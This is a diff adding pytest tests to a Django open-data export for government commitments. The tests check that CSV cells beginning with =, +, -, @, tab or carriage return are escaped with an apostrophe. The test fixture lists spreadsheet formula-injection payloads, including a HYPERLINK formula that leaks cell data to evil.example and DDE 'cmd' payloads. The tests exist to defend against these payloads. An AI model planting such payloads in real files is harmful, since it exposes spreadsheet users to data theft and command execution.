@@ -10,7 +10,13 @@ from django.urls import reverse
 
 from commitments import exports
 from commitments.models import Commitment
-from tests.factories import ActionPlanFactory, CommitmentFactory, MilestoneFactory, PolicyAreaFactory
+from tests.factories import (
+    ActionPlanFactory,
+    CommitmentFactory,
+    MilestoneFactory,
+    OrganisationFactory,
+    PolicyAreaFactory,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -52,6 +58,38 @@ def test_json_and_per_member_downloads(client):
     data = json.loads(_body(client.get(reverse("commitments:open-data-json"), {"member": "madrid"})))
     assert [row["id"] for row in data] == [mine.pk]
     assert client.get(reverse("commitments:open-data-json"), {"member": "atlantis"}).status_code == 404
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "problem": "+1+cmd|' /C calc'!A0",
+    "status_quo": "-2+3+cmd|' /C calc'!A0",
+    "objective": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "expected_results": "\t=1+1",
+    "number": "\r=1+1",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(client):
+    """A cell starting with = + - @, a tab or a carriage return gets a leading apostrophe; JSON stays exact."""
+    commitment = CommitmentFactory(**HOSTILE, lead_institution=OrganisationFactory(name="=1+2"))
+    commitment.supporting_organisations.add(OrganisationFactory(name="@evil"))
+    row = next(csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv"))))))
+    for field, value in {**HOSTILE, "lead_institution": "=1+2", "supporting_organisations": "@evil"}.items():
+        assert row[field] == "'" + value, field
+    assert row["id"] == str(commitment.pk) and row["milestones"] == "0"
+    data = json.loads(_body(client.get(reverse("commitments:open-data-json"))))
+    assert {field: data[0][field] for field in HOSTILE} == HOSTILE
+    assert data[0]["lead_institution"] == "=1+2" and data[0]["supporting_organisations"] == "@evil"
+    page = client.get(reverse("commitments:open-data")).content.decode()
+    assert "is written with an apostrophe (') in front" in page  # the data dictionary says so
+
+
+def test_ordinary_text_and_numbers_are_written_unchanged(client):
+    CommitmentFactory(title="Open contracting - phase 2", problem="-12.5", objective="50% more = better")
+    row = next(csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv"))))))
+    assert row["title"] == "Open contracting - phase 2" and row["problem"] == "-12.5"
+    assert row["objective"] == "50% more = better"
 
 
 def test_the_page_documents_every_column(client):
